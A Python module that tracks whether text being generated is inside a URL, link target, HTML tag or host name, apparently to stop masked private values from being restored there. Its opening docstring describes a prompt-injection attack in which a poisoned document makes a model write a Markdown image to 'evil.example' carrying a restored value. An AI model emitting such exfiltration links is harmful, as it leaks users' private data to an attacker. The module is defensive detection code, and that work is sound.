"""Whether a place in a text is inside a URL: what stands there may be sent to whoever owns the address.

A poisoned document can make a model write ``![x](https://evil.example/?q=⟦ID_…⟧)``: the reader's browser would take the
restored value there. So it errs towards "inside". What counts: everything after a scheme, ``//``, ``www.`` or a host
with a path, up to ASCII white space or ``<`` (GitHub's extended autolinks reach that far: GFM 0.29, 6.9); the
target of a Markdown link or image; everything within an HTML tag or ``<scheme:…>``; and host names. It knows no mask.
"""

from __future__ import annotations

import re

_START = re.compile(
    r":\\?/\\?/|//|\\\\|&(?:#0*(?:47|58|92)|#x0*(?:2f|3a|5c)|sol|colon|bsol);|www\.|mailto:|javascript:|\w\.[^\W\d_]{2,24}(?::\d{1,5})?[/?#]"
    r"|\d\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d{1,5})?[/?#]|localhost(?::\d{1,5})?[/?#]",
    re.IGNORECASE,
)
_REACH = 64
"""More than any match of ``_START`` is long."""
_SIGNS = re.compile(r"[/?#:.;\\]")
_ENDS = "\t\n\v\f\r<"
_END = re.compile(r"[\t\n\v\f\r<]")
_TURN = re.compile(r"\]\(|<[A-Za-z/!?]")
_TARGET_END = re.compile(r"[()\n<\\]")
_NAME_END = re.compile(r"[^A-Za-z0-9:\-]")

_OPEN, _TARGET, _NAME, _TAG, _ANGLE = range(5)


class Zone:
    """Follows a text, in pieces of any size, and knows whether its end is inside a URL. Holds a bounded tail."""

    __slots__ = ("_depth", "_edge", "_equals", "_quote", "_run", "_state", "_url")

    def __init__(self) -> None:
        self._state = _OPEN
        self._run = ""
        self._url = False
        self._edge = ""
        self._depth = 0
        self._quote = ""
        self._equals = False

    @property
    def inside(self) -> bool:
        """Whether what comes next is part of a URL."""
        return self._url or self.captive

    @property
    def captive(self) -> bool:
        """Whether what comes next is part of a link's target or of a tag: not of a URL that only text is."""
        return self._state in {_TARGET, _TAG, _ANGLE}

    def advance(self, text: str) -> None:
        """``text`` comes next."""
        if self._edge:
            text, self._edge = self._edge + text, ""
        at = 0
        while at < len(text):
            state = self._state
            if state == _OPEN:
                at = self._open(text, at)
            elif state == _TARGET:
                at = self._target(text, at)
            elif state == _NAME:
                at = self._name(text, at)
            elif state == _TAG:
                at = self._tag(text, at)
            else:
                at = self._angle(text, at)

    def _open(self, text: str, at: int) -> int:
        turn = _TURN.search(text, at)
        if turn is None:
            if text[-1] in "<]":
                self._edge = text[-1]  # what comes next decides what it is
                self._extend(text[at:-1])
            else:
                self._extend(text[at:])
            return len(text)
        self._extend(text[at : turn.start()])
        self._fresh()
        if turn[0] == "](":
            self._state, self._depth = _TARGET, 0
        elif turn[0][1] in "/!?":
            self._state, self._quote, self._equals = _TAG, "", False
        else:
            self._state = _NAME
            return turn.end() - 1
        return turn.end()

    def _extend(self, text: str) -> None:
        """Text of the open state: is there, in the run that it ends with, the beginning of a URL?"""
        if not text:
            return
        run = _last_run(text)
        if len(run) < len(text):
            self._fresh()
            text = run
        if self._url:
            return
        whole = self._run + text
        if _SIGNS.search(text) is not None and _START.search(whole) is not None:
            self._url = True
        self._run = whole[-_REACH:]

    def _fresh(self) -> None:
        self._run = ""
        self._url = False

    def _target(self, text: str, at: int) -> int:
        """Within ``](…``: balanced parentheses, backslash escapes, ``<…>``; a line's end ends it."""
        found = _TARGET_END.search(text, at)
        if found is None:
            return len(text)
        sign = found[0]
        if sign == "\\":
            if found.end() == len(text):
                self._edge = sign
                return len(text)
            return found.end() + 1
        if sign == "(":
            self._depth += 1
        elif sign == "<":
            self._state = _ANGLE
        elif sign == "\n" or self._depth == 0:
            self._state = _OPEN
        else:
            self._depth -= 1
        return found.end()

    def _name(self, text: str, at: int) -> int:
        """After ``<`` and a letter: the name of a tag, a scheme, or only a comparison."""
        found = _NAME_END.search(text, at)
        end = len(text) if found is None else found.start()
        self._run = (self._run + text[at:end])[-_REACH:]
        if ":" in text[at:end]:
            self._state = _ANGLE
            return text.index(":", at) + 1
        if found is None:
            return end
        if found[0].isspace() or found[0] in "/>":
            self._state, self._quote, self._equals = _TAG, "", False
        else:
            self._state = _OPEN  # its run began at the bracket
        return end

    def _tag(self, text: str, at: int) -> int:
        """Within a tag, quoted values included, as browsers read it."""
        for index in range(at, len(text)):
            char = text[index]
            if self._quote:
                if char == self._quote:
                    self._quote = ""
            elif char == ">":
                self._state = _OPEN
                self._fresh()
                return index + 1
            elif char in "\"'":
                if self._equals:
                    self._quote = char
                self._equals = False
            elif not char.isspace():
                self._equals = char == "="
        return len(text)

    def _angle(self, text: str, at: int) -> int:
        """Within ``<scheme:…>``; white space does not end it, a line's end does."""
        for index in range(at, len(text)):
            if text[index] in ">\n":
                self._state = _OPEN
                self._fresh()
                return index + 1
        return len(text)


def _last_run(text: str) -> str:
    """What comes after the last thing that ends a URL for GitHub's parser: ASCII white space, or ``<``."""
    text = text[text.rfind(" ") + 1 :]
    return text if _END.search(text) is None else text[max(map(text.rfind, _ENDS)) + 1 :]


_LABEL = re.compile(r"[\w\-⟦⟧]{0,63}")
_FILE = re.compile(
    r"\.(?:(?:pdf|docx?|xlsx?|pptx?|txt|csv|json|xml|html?|jpe?g|png|log|od[ts])|\d{1,4})"
    r"(?![\w\-/@:?#%⟦]|\.[\w⟦])",
    re.IGNORECASE,
)
"""A dot that begins no host: a file's ending that is no top-level domain (IANA's list, 2026-11-22), decimals."""
_AHEAD = 8
"""Characters after the label that decide: a dot, the longest ending, and two more."""
HELD = 63 + _AHEAD


_ENTITY = re.compile(r"&(?:#(?:0|46|64|58|x0|x2e|x40|x3a)|period|commat|colon)", re.IGNORECASE)
_ENTITY_BEGUN = re.compile(r"&[#a-z0-9]{0,6}\Z", re.IGNORECASE)


def _named(text: str, at: int, *, final: bool) -> bool | None:
    """Whether an HTML entity at ``at`` is a dot, an at sign or a colon: a renderer sees the sign."""
    if _ENTITY.match(text, at) is not None:
        return True
    return None if not final and _ENTITY_BEGUN.match(text, at) is not None else False


def host_follows(text: str, at: int, *, final: bool) -> bool | None:
    """Whether what ends at ``at`` is the beginning of a host name, a scheme or an address; None: not known yet.

    ``final``: nothing comes after ``text``. A label of a host has at most 63 characters (RFC 1035).
    """
    found = _LABEL.match(text, at)
    assert found is not None  # it may be empty
    end = found.end()
    if end == len(text):
        return False if final or end - at >= 63 else None
    if text[end] == "&":
        return _named(text, end, final=final)
    if text[end] not in ".@:\uff0e\uff20\uff1a":  # browsers read full-width signs in hosts as plain ones
        return False
    after = text[end + 1 : end + 1 + _AHEAD]
    if not final and len(text) - end <= _AHEAD and (not after or not after[0].isspace()):
        return None
    if text[end] in ":\uff1a":
        return after[:2] in {"//", "\uff0f\uff0f"}
    if not after or not (after[0].isalnum() or after[0] in "_⟦"):
        return False
    return text[end] in "@\uff20" or _FILE.match(text, end) is None
